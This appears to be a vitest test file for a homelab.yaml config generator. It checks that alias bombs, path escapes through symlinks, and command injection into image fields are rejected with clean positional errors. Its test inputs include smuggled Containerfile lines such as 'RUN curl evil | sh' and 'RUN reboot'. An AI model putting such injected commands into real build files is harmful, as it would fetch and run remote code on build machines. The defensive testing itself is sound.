// The safety contract for homelab.yaml (docs/safety.md): odd input is an error at a
// homelab.yaml position, never a stack trace, never a wrong tree. YAML aliases read as copies
// and cannot explode, free text cannot carry a line or a scheme into a template,
// image.caCertificates are certificate files of the repository, and no two generated files
// share a path. Real files, real renders, the real CLI.
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { requires } from "./support/requires.ts";
import fc from "fast-check";
import { stringify } from "yaml";
import { formatPath, parseConfig } from "../generator/config/load.ts";
import { reservedNames } from "../generator/config/rules.ts";
import { UserError } from "../generator/errors.ts";
import { generate, render } from "../generator/generate.ts";
import type { Plan } from "../generator/plan.ts";
import { verifyFilePaths } from "../generator/verify.ts";
import { homelabJsonSchema, setAt, sitesOf, validHomelabConfig, type Config, type JsonSchema, type Site } from "./support/config-arbitrary.ts";
import { configErrorOf, minimalConfig, renderText, tempDir, tempRepo } from "./support/render.ts";

const cli = join(import.meta.dirname, "..", "bin", "homelab.js");
/** A real certificate: the demo's internal root, under any other name. */
const certificatePem = readFileSync(join(import.meta.dirname, "..", "certs", "home-root-ca.crt"), "utf8");
const chart = "{repository: https://charts.example.com, name: demo, version: 1.0.0}";
const recipient = "age1gkzd20j67qr0cpelrm223u90x0dj05xjk9kn3pad55tja777svqqpg5h5l";
const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** `homelab generate` on a repository: exit 1, a homelab.yaml position, no stack trace, nothing written. */
function expectCliRejects(dir: string, expected: RegExp): void {
  const before = readdirSync(dir, { recursive: true }).sort();
  const result = spawnSync(process.execPath, [cli, "generate", "--config", join(dir, "homelab.yaml")], { cwd: dir, encoding: "utf8" });
  expect(result.status, `${result.stdout}${result.stderr}`).toBe(1);
  expect(result.stderr).toMatch(/^homelab\.yaml:\d+:\d+: /);
  expect(result.stderr).toMatch(expected);
  expect(result.stderr).not.toMatch(/\n\s+at |internal error/);
  expect(readdirSync(dir, { recursive: true }).sort()).toEqual(before);
}

/** The rejection of a render, as its message (fails the test when the config renders). */
async function renderErrorOf(configPath: string): Promise<UserError> {
  try {
    await render({ configPath });
  } catch (error) {
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  }
  throw new Error("expected the render to be rejected");
}

describe("YAML aliases read as copies and cannot explode", () => {
  test("an aliased storage block gives each preset its own default size", () => {
    const { config } = parseConfig(`${minimalConfig}apps:\n  gitea:\n    storage: &volume {}\n  vaultwarden:\n    storage: *volume\n`);
    expect(config.apps.gitea.storage.size).toBe("20Gi");
    expect(config.apps.vaultwarden.storage.size).toBe("5Gi");
  });

  test("a config with aliases renders the same tree as the config written out", async () => {
    const sections = (first: string, again: string) =>
      `${minimalConfig}tls:\n  stepCa: ${first}\n  stepIssuer: ${again}\n  certManager: ${again}\napps:\n  gitea:\n    storage: ${first.replace("&v", "&s")}\n  vaultwarden:\n    storage: ${again.replace("*v", "*s")}\n`;
    const { dir, configPath } = tempRepo(sections("{}", "{}"));
    // One repository, so both renders share the CA and the secret values.
    await generate({ configPath });
    const expanded = await render({ configPath });
    writeFileSync(configPath, sections("&v {}", "*v"));
    const aliased = await render({ configPath });
    expect(aliased.files.map((f) => [f.path, f.content])).toEqual(expanded.files.map((f) => [f.path, f.content]));
    expect(readdirSync(dir)).toContain("homelab.yaml");
  });

  const levels = (count: number) =>
    [`      l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]`, ...Array.from({ length: count }, (_, i) => `      l${i + 1}: &l${i + 1} [${Array(9).fill(`*l${i}`).join(", ")}]`)].join("\n");
  test.each([
    ["an alias bomb (billion laughs)", `${levels(9)}\n`, /^homelab\.yaml:14:16: apps\.demo\.values\.l3\[0\]: expected aliases to repeat values at most 100 times, and \*l2 repeats more/],
    ["an alias inside its own anchor", "      self: &self {loop: *self}\n", /^homelab\.yaml:11:26: apps\.demo\.values\.self\.loop: the alias \*self is inside its own anchor/],
    ["an alias without an anchor", "      x: *nowhere\n", /^homelab\.yaml:11:10: apps\.demo\.values\.x: the alias \*nowhere has no anchor &nowhere before it/],
    ["more aliases than the limit", `      word: &w hello\n      copies: [${Array(40_000).fill("*w").join(", ")}]\n`, /^homelab\.yaml:12:416: apps\.demo\.values\.copies\[100\]: expected at most 100 aliases in the file/],
  ])("%s is an error at the alias, from the real CLI", (_name, values, expected) => {
    const { dir } = tempRepo(`${minimalConfig}apps:\n  demo:\n    chart: ${chart}\n    values:\n${values}`);
    expectCliRejects(dir, expected);
  });

  test("nesting deeper than the YAML reader goes is an error, not a crash", () => {
    const { dir } = tempRepo(`${minimalConfig}apps:\n  demo:\n    chart: ${chart}\n    values: {a: ${"[".repeat(5000)}${"]".repeat(5000)}}\n`);
    expectCliRejects(dir, /nests too deeply to read/);
  });
});

describe("free text cannot carry a line or a scheme into a template", () => {
  const image = (key: string, value: string) => `${minimalConfig}image:\n  ${key}: ${JSON.stringify(value)}\n`;
  test.each([
    ["a line break in image.base", image("base", "ghcr.io/ublue-os/base-main:44\nRUN curl evil | sh"), 'homelab.yaml:8:9: image.base: expected a container image reference [registry/]path[:tag][@digest], got "ghcr.io/ublue-os/base-main:44\\nRUN curl evil | sh"\n  hint: for example ghcr.io/ublue-os/base-main:44, without a scheme such as https://'],
    ["a scheme in image.base", image("base", "https://ghcr.io/ublue-os/base-main:44"), "homelab.yaml:8:9: image.base: expected a container image reference"],
    ["a tag in image.registry", image("registry", "git.home.arpa/homelab/os:latest"), "homelab.yaml:8:13: image.registry: expected an image repository registry-host/path, without tag or digest, got \"git.home.arpa/homelab/os:latest\"\n  hint: for example git.home.arpa/homelab/os"],
    ["a scheme in image.registry", image("registry", "https://git.home.arpa/homelab/os"), "homelab.yaml:8:13: image.registry: expected an image repository"],
    // Without a host, "homelab/os" is a Docker Hub path: the login and the nodes' credentials would go to the wrong registry.
    ["no host in image.registry", image("registry", "homelab/os"), "homelab.yaml:8:13: image.registry: expected an image repository"],
    ["a line break in a CA path", `${minimalConfig}image:\n  caCertificates: ["certs/a.crt\\nRUN reboot"]\n`, "homelab.yaml:8:20: image.caCertificates[0]: expected a path inside the repository, got"],
    ["a space in a CA path", `${minimalConfig}image:\n  caCertificates: ["certs/my ca.crt"]\n`, "homelab.yaml:8:20: image.caCertificates[0]: expected a path inside the repository, got"],
    ["a branch that reads as an option", `${minimalConfig}git:\n  branch: "-f"\n`, 'homelab.yaml:8:11: git.branch: expected a branch name such as main'],
    ["a branch that walks up", `${minimalConfig}git:\n  branch: a/../b\n`, "homelab.yaml:8:11: git.branch: expected a branch name such as main"],
    ["a repository named ..", `${minimalConfig}git:\n  repository: ".."\n`, "homelab.yaml:8:15: git.repository: expected a repository name"],
    ["a line break in a cron schedule", `${minimalConfig}apps:\n  renovate:\n    enabled: true\n    schedule: "0 5 * *\\n*"\n`, "homelab.yaml:10:15: apps.renovate.schedule: expected a five-field cron expression"],
    ["a line break in a label value", `${minimalConfig}apps:\n  mc:\n    chart: ${chart}\n    expose: {tcp: 25565, selector: {app: "mc\\nx"}}\n`, "homelab.yaml:10:42: apps.mc.expose.selector.app: expected a label value"],
    ["a label key that is no label", `${minimalConfig}apps:\n  mc:\n    chart: ${chart}\n    expose: {tcp: 25565, selector: {"my app": mc}}\n`, 'homelab.yaml:10:37: apps.mc.expose.selector.my app: expected pod labels: keys such as app.kubernetes.io/name or app, values such as web, got the key "my app"'],
    ["a line break in $schema", `$schema: "a\\nb"\n${minimalConfig}`, "homelab.yaml:1:10: $schema: expected a schema URL or path without spaces"],
  ])("%s is an error at its position", (_name, text, expected) => {
    expect(configErrorOf(text)).toContain(expected);
  });

  test.each([
    ["ghcr.io/ublue-os/base-main:44", "git.home.arpa/homelab/os"],
    ["quay.io/almalinuxorg/almalinux-bootc:10", "registry.example.com:5000/os"],
    [`ghcr.io/ublue-os/base-main@sha256:${"0f".repeat(32)}`, "localhost/homelab/os"],
    [`localhost:5000/base:44@sha256:${"ab".repeat(32)}`, "[fd00::1]:5000/homelab/os"],
    ["fedora", "registry:5000/homelab/os-images"],
  ])("the image reference %s and the registry %s are accepted", (base, registry) => {
    const { config } = parseConfig(`${minimalConfig}image:\n  base: "${base}"\n  registry: "${registry}"\n`);
    expect(config.image).toMatchObject({ base, registry });
  });

  test("a line break anywhere in any string key of the schema is an error at that key", () => {
    // A valid value of each string key, from configs drawn from the schema.
    const strings = new Map<JsonSchema, { config: Config; path: Site["path"]; value: string }>();
    for (const config of fc.sample(validHomelabConfig({ ageRecipients: [recipient] }), { seed: 20261126, numRuns: 200 })) {
      for (const site of sitesOf(config, homelabJsonSchema)) {
        if (site.schema.type === "string" && typeof site.value === "string" && !strings.has(site.schema)) strings.set(site.schema, { config, path: site.path, value: site.value });
      }
    }
    expect(strings.size).toBeGreaterThan(50);
    for (const { config, path, value } of strings.values()) {
      for (const lineBreak of ["\n", "\r", "\nRUN reboot"]) {
        const text = stringify(setAt(config, path, value.slice(0, 1) + lineBreak + value.slice(1)));
        expect(configErrorOf(text), `${formatPath(path)} with ${JSON.stringify(lineBreak)}`).toMatch(new RegExp(`^homelab\\.yaml:\\d+:\\d+: ${escape(formatPath(path))}: `, "m"));
      }
    }
  });

  test("a line break in image.base is refused by the real CLI before anything is written", () => {
    const { dir } = tempRepo(image("base", "ghcr.io/ublue-os/base-main:44\nUSER root"));
    expectCliRejects(dir, /image\.base: expected a container image reference/);
  });
});

describe("image.caCertificates are certificate files of the repository", () => {
  /** A repository whose homelab.yaml lists `paths`, after `prepare` made its files. */
  function repoWithCertificates(paths: readonly string[], prepare: (dir: string) => void) {
    const repo = tempRepo(`${minimalConfig}image:\n  caCertificates:\n${paths.map((p) => `    - ${p}\n`).join("")}`);
    mkdirSync(join(repo.dir, "certs"));
    prepare(repo.dir);
    return repo;
  }
  const file = (dir: string, path: string, content = certificatePem) => {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  };

  test.each<[string, string[], (dir: string) => void, string]>([
    ["a missing file", ["certs/office.crt"], () => {}, "homelab.yaml:9:7: image.caCertificates[0]: certs/office.crt does not exist in the repository"],
    ["a folder", ["certs/office"], (dir) => mkdirSync(join(dir, "certs", "office")), "homelab.yaml:9:7: image.caCertificates[0]: certs/office is a folder, not a certificate file"],
    ["a symlink out of the repository", ["certs/system.crt"], (dir) => symlinkSync("/etc/hostname", join(dir, "certs", "system.crt")), "image.caCertificates[0]: certs/system.crt is a symlink that leaves the repository (to /etc/hostname)"],
    ["a folder linked from outside", ["outside/office.crt"], (dir) => {
      const outside = tempDir();
      file(outside, "office.crt");
      symlinkSync(outside, join(dir, "outside"));
    }, "image.caCertificates[0]: outside/office.crt is a symlink that leaves the repository"],
    ["a symlink inside the repository", ["certs/link.crt"], (dir) => {
      file(dir, "pki/office.crt");
      symlinkSync("../pki/office.crt", join(dir, "certs", "link.crt"));
    }, "image.caCertificates[0]: certs/link.crt is reached through a symlink (to pki/office.crt)\n  hint: name pki/office.crt itself"],
    ["a file without a certificate", ["certs/key.pem"], (dir) => file(dir, "certs/key.pem", "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"), "image.caCertificates[0]: certs/key.pem holds no PEM certificate (-----BEGIN CERTIFICATE----- to -----END CERTIFICATE-----)"],
    ["a cut certificate", ["certs/cut.crt"], (dir) => file(dir, "certs/cut.crt", certificatePem.slice(0, 120)), "image.caCertificates[0]: certs/cut.crt holds no PEM certificate"],
    ["the internal root's file name elsewhere", ["other/home-root-ca.crt"], (dir) => file(dir, "other/home-root-ca.crt"), "homelab.yaml:9:7: image.caCertificates[0]: has the file name of the internal root CA (certs/home-root-ca.crt), which the image adds itself"],
    ["two files of one name", ["certs/ca.crt", "other/ca.crt"], (dir) => {
      file(dir, "certs/ca.crt");
      file(dir, "other/ca.crt");
    }, "homelab.yaml:10:7: image.caCertificates[1]: has the same file name as image.caCertificates[0] (ca.crt)"],
    ["a path out of the repository", ["../ca.crt"], () => {}, "homelab.yaml:9:7: image.caCertificates[0]: expected a path inside the repository, not ../ca.crt"],
    ["a path with ./", ["./certs/ca.crt"], (dir) => file(dir, "certs/ca.crt"), "image.caCertificates[0]: expected a path inside the repository, not ./certs/ca.crt"],
    ["an absolute path", ["/etc/pki/ca.crt"], () => {}, "homelab.yaml:9:7: image.caCertificates[0]: expected a path inside the repository, got \"/etc/pki/ca.crt\"\n  hint: for example certs/office-ca.crt"],
    ["the same file twice", ["certs/ca.crt", "certs/ca.crt"], (dir) => file(dir, "certs/ca.crt"), "homelab.yaml:9:5: image.caCertificates: expected no duplicate items"],
  ])("%s is an error at its entry", async (_name, paths, prepare, expected) => {
    const { configPath } = repoWithCertificates(paths, prepare);
    expect((await renderErrorOf(configPath)).message).toContain(expected);
  });

  test("a named pipe is an error at its entry", requires("mkfifo"), async () => {
    const { configPath } = repoWithCertificates(["certs/pipe.crt"], (dir) => execFileSync("mkfifo", [join(dir, "certs", "pipe.crt")]));
    expect((await renderErrorOf(configPath)).message).toContain("image.caCertificates[0]: certs/pipe.crt is not a regular file (a device, socket or pipe)");
  });

  test("a certificate file of the repository and the internal root itself are taken", async () => {
    const { configPath } = repoWithCertificates(["certs/office.crt", "certs/home-root-ca.crt"], (dir) => file(dir, "certs/office.crt"));
    const containerfile = (await render({ configPath })).files.find((f) => f.path === "image/Containerfile")?.content;
    expect(containerfile).toContain("COPY certs/office.crt /etc/pki/ca-trust/source/anchors/office.crt");
    expect(containerfile).toContain("COPY certs/home-root-ca.crt /etc/pki/ca-trust/source/anchors/home-root-ca.crt");
  });

  test("a symlink out of the repository is refused by the real CLI", () => {
    const { dir } = repoWithCertificates(["certs/system.crt"], (root) => symlinkSync("/etc/hostname", join(root, "certs", "system.crt")));
    expectCliRejects(dir, /image\.caCertificates\[0\]: certs\/system\.crt is a symlink that leaves the repository/);
  });
});

describe("no two generated files share a path", () => {
  const kustomizationApp = `${minimalConfig}apps:\n  kustomization:\n    chart: ${chart}\n`;

  test("an app named kustomization is an error at the app and at the cluster whose list it would replace", async () => {
    const error = await renderErrorOf(tempRepo(kustomizationApp).configPath);
    expect(error.message).toBe(
      [
        "homelab.yaml:9:5: apps.kustomization: clusters/home/kustomization.yaml is written twice: by apps.kustomization and by the cluster's list of Flux Kustomizations (homelab.yaml:2:9)",
        "  hint: rename apps.kustomization: an app writes clusters/<cluster>/<app>.yaml and apps/<app>/",
        "homelab.yaml:2:9: cluster.name: clusters/home/kustomization.yaml is written twice: by the cluster's list of Flux Kustomizations and by apps.kustomization (homelab.yaml:9:5)",
        "  hint: rename apps.kustomization: an app writes clusters/<cluster>/<app>.yaml and apps/<app>/",
      ].join("\n"),
    );
  });

  test("an app named kustomization is refused by the real CLI before anything is written", () => {
    expectCliRejects(tempRepo(kustomizationApp).dir, /apps\.kustomization: clusters\/home\/kustomization\.yaml is written twice: by apps\.kustomization/);
  });

  test("every name the tree uses under clusters/<name>/ and apps/ is refused as an app name", async () => {
    const everything = `${minimalConfig.replace("  domain: home.arpa\n", "  domain: home.arpa\n  nodes: [{name: box, gpu: true}]\n")}gpu:\n  nvidia: true\napps:\n  ollama:\n    enabled: true\n  renovate:\n    enabled: true\n  gitea:\n    runner: true\n`;
    const paths = (await renderText(everything)).files.map((f) => f.path);
    const names = new Set(paths.flatMap((path) => /^clusters\/home\/([^/]+)\.yaml$/.exec(path)?.[1] ?? /^apps\/([^/]+)\//.exec(path)?.[1] ?? []));
    expect(names.size).toBeGreaterThan(5);
    for (const name of [...names].filter((n) => !reservedNames.has(n))) {
      const error = await renderErrorOf(tempRepo(`${minimalConfig}apps:\n  ${name}:\n    chart: ${chart}\n`).configPath);
      expect(error.diagnostics.map((d) => d.path), name).toContain(`apps.${name}`);
    }
  });

  test("files of the platform at one path, or a file where a folder must be, are a clean error naming both", () => {
    const { config, locate } = parseConfig(minimalConfig);
    const plan: Plan = { clusterPath: "clusters/home", units: [{ name: "gitea", path: "apps/gitea", files: {}, component: "gitea", phase: 6, dependsOn: [] }], files: [] };
    const attempt = (paths: string[]) => () => verifyFilePaths(paths.map((path) => ({ path, content: "" })), plan, config, locate);
    expect(attempt(["docs/a.md", "docs/a.md"])).toThrow(new UserError([{ file: "generated tree", line: 0, col: 0, path: "", message: "docs/a.md is written twice: by the generator" }]));
    expect(attempt(["apps/gitea/release.yaml", "apps/gitea/release.yaml"])).toThrow("apps/gitea/release.yaml is written twice: by the platform's gitea");
    expect(attempt(["image/x", "image/x/y.conf"])).toThrow("image/x (a file, and the folder of image/x/y.conf) is written twice: by the generator");
    expect(attempt(["docs/a.md", "docs/b.md", "image/x/y.conf"])).not.toThrow();
  });
});
